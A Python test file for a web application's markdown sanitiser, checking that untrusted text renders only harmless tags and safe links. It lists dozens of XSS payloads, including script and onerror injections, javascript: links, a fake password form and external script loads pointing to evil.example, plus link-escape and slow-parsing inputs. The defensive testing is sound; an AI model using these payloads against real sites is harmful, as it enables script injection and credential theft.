"""Markdown from strangers: a few harmless tags, and everything else as it was written."""

import json
import time
from html.parser import HTMLParser

import pytest

from engine.program.form_parts import Text
from engine.program.forms import read_form
from tests.pace import within
from web import words
from web.prose import LONGEST, filled, filled_html, prose

TAGS = frozenset("a blockquote br code em h3 h4 hr li ol p pre strong table tbody td th thead tr ul".split())  # noqa: SIM905

ATTACKS = """
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<img src=x onerror=alert(1)>
<svg onload=alert(1)><g/onload=alert(2)></svg>
<svg><script href="data:text/javascript,alert(1)"/></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">
<form action="https://evil.example"><input name="password"><button>Sign in</button></form>
<a href="javascript:alert(1)">x</a>
<a href="https://ok.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
<link rel="stylesheet" href="https://evil.example/x.css"><style>*{display:none}</style>
<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?php echo 1 ?><%= 1 %>{{7*7}}${7*7}#{7*7}
</div></main></body><script>alert(1)</script>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java%0ascript:alert(1))
[x](java&#10;script:alert(1))
[x](&#106;avascript:alert(1))
[x](\x01javascript:alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
[x](vbscript:msgbox)
[x](file:///etc/passwd)
[x](//evil.example)
[x](/sign-out)
[x](\\\\evil.example)
[x](tel:123)
[x](blob:https://a/b)
[x]( javascript:alert(1) "title")
[x](https://e.example/"onmouseover="alert(1))
[x](https://e.example "t\\" onmouseover=\\"alert(1)")
[x](<javascript:alert(1)>)
[x][y]\n\n[y]: javascript:alert(1)
![x](https://evil.example/spy.png)
![x](javascript:alert(1))
![](x "onerror=alert(1)")
[![x](https://evil.example/spy.png)](javascript:alert(1))
<javascript:alert(1)>
<https://ok.example/?a="><script>alert(1)</script>>
`<script>alert(1)</script>`
```html\n<script>alert(1)</script>\n```
```"><script>alert(1)</script>\nx\n```
    <script>alert(1)</script>
# <img src=x onerror=alert(1)>
> <b onclick=alert(1)>x
- <b onclick=alert(1)>x
| <script> | b |\n|---|:-:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |
*<b>*</b>*
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\\<script>alert(1)</script>
<a\nhref="javascript:alert(1)">x</a>
\u2028<script>alert(1)</script>
<\u0000script>alert(1)</script>
\ue0000\ue001<script>alert(1)</script>
%EE%80%800%EE%80%81
""".strip().split("\n")


class Reader(HTMLParser):
    """Reads HTML the way a browser begins to: which tags and attributes there are."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.found.append(("!--", {}))

    def handle_decl(self, decl):
        self.found.append(("!", {}))

    def handle_pi(self, data):
        self.found.append(("?", {}))


def must_be_harmless(html):
    for tag, attributes in Reader(html).found:
        assert tag in TAGS, html
        allowed = {"a": {"href", "rel"}, "ol": {"start"}}.get(tag, set())
        assert set(attributes) <= allowed, html
        if tag == "a" and "href" in attributes:
            assert attributes["href"].partition(":")[0].lower() in {"http", "https", "mailto"}, html
            assert attributes["rel"] == "noreferrer", html


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "text {} text", "- {}", "> {}", "**{}**", "[{}](https://ok.example)", "# {}"])
def test_nothing_that_acts_is_left(attack, around):
    written = around.replace("{}", attack.encode().decode("unicode_escape") if "\\n" in attack else attack)
    must_be_harmless(str(prose(written)))
    text = Text("text", "See {{v}}, `{{v}}`, [{{v}}](https://ok.example/{{v}}) and [x]({{v}}).")
    must_be_harmless(str(filled(text, {"v": written}, str)))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("one\n\ntwo\nlines", "<p>one</p>\n<p>two<br>\nlines</p>"),
        ("# Order **1**\nmore", "<h3>Order <strong>1</strong></h3>\n<p>more</p>"),
        ("##### deep", "<h4>deep</h4>"),
        ("- a\n- *b*", "<ul>\n<li>a</li>\n<li><em>b</em></li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("`x < y`", "<p><code>x &lt; y</code></p>"),
        ("[ours](https://e.org/a?b=1&c=2)", '<p><a href="https://e.org/a?b=1&amp;c=2" rel="noreferrer">ours</a></p>'),
        ("[mail](mailto:a@e.org)", '<p><a href="mailto:a@e.org" rel="noreferrer">mail</a></p>'),
        ("<b>&</b>", "<p>&lt;b&gt;&amp;&lt;/b&gt;</p>"),
        ("![picture](https://e.org/x.png)", '<p>!<a href="https://e.org/x.png" rel="noreferrer">picture</a></p>'),
        ("", ""),
    ],
)  # fmt: skip
def test_plain_markdown_reads_as_it_should(text, html):
    assert str(prose(text)) == html


def test_a_heading_of_a_value_that_is_not_there_is_left_out():
    text = Text("text", "# {{name}}\n\nhello")
    assert str(filled(text, {}, str)) == "<p>hello</p>"
    assert str(filled(text, {"name": "x"}, str)) == "<h3>x</h3>\n<p>hello</p>"
    assert prose("#\n\nhello") == "<p>hello</p>"


def test_a_table_is_a_table():
    assert "<th>a</th>" in prose("|a|\n|-|\n|b|")
    assert "<td>b</td>" in prose("|a|\n|-|\n|b|")


def test_what_somebody_has_entered_is_never_read_as_markdown():
    """A customer's name must not become a link on the page of a clerk."""
    text = Text("text", "Ask **{{customer}}** about {{note}}")
    values = {"customer": "[Click](https://evil.example) <b>", "note": "# not a heading\n- nor a list"}

    assert str(filled(text, values, str)) == (
        "<p>Ask <strong>[Click](https://evil.example) &lt;b&gt;</strong> about # not a heading<br>- nor a list</p>"
    )


def test_a_value_in_a_link_cannot_leave_its_place():
    text = Text("text", "[order](https://shop.example/orders/{{number}})")
    value = "../../x?y#z@evil.example/\"onclick='a'"

    (_, link) = Reader(str(filled(text, {"number": value}, str))).found
    assert link[1]["href"] == "https://shop.example/orders/..%2F..%2Fx%3Fy%23z%40evil.example%2F%22onclick%3D%27a%27"


@pytest.mark.parametrize(
    ("fill", "kind", "said"),
    [
        (filled, "text", {"text": "[on {{on}}](https://shop.example/{{on}}/{{no}})"}),
        (filled_html, "html", {"content": '<p><a href="https://shop.example/{{on}}/{{no}}">on {{on}}</a></p>'}),
    ],
)
def test_a_date_is_read_as_people_read_it_and_linked_to_as_programs_write_it(fill, kind, said):
    form = read_form(json.dumps({"id": "x", "components": [{"type": kind, **said}]}).encode(), "x.form")
    html = str(fill(form.parts[0], {"on": "2026-03-01", "no": 104711}, words.shown))
    (_, link) = Reader(html).found
    assert link[1]["href"] == "https://shop.example/2026-03-01/104711"
    assert ">on 1 March 2026</a>" in html


def test_a_value_cannot_stand_for_another_value():
    text = Text("text", "{{a}} {{b}} v0n1v")
    assert str(filled(text, {"a": "{{b}} v0n1v", "b": "secret"}, str)) == "<p>{{b}} v0n1v secret v0n1v</p>"


HOSTILE = (
    "[", "![", "*a ", "*_", "`", "> ", "- ", "[a](", "**a", "<", "<a ", "&#", "|a", "[a][", "]", "\\", "\t", "1) ",
    "___a", "[x]: /y\n", "<!--", "<http:", "a\n", "\n", "~~~\n", "    x\n",
)  # fmt: skip


@pytest.mark.parametrize("part", HOSTILE)
def test_hostile_prose_takes_little_time_and_no_more_room_than_it_may(part):
    began = time.process_time()
    html = prose(part * (10 * LONGEST // len(part)))

    assert within(time.process_time() - began, 2)
    assert len(html) < 20 * LONGEST
    must_be_harmless(str(html))


def test_notes_of_a_diagram_are_shown_as_prose(sales, house):
    definition = next(one for one in house.catalogue.definitions() if one.key == "order_to_cash")
    page = sales.get(f"/processes/{definition.id}").text

    assert "What the steps are about" in page
    assert "<p>Look at the order as the customer sent it.</p>" in page


def test_a_form_whose_every_text_is_an_attack_shows_text():
    components = [{"type": "text", "text": attack.replace("{{7*7}}", "")} for attack in ATTACKS if "\0" not in attack]
    form = read_form(json.dumps({"id": "x", "components": components}).encode(), "x.form")
    for part in form.parts:
        must_be_harmless(str(filled(part, {}, str)))
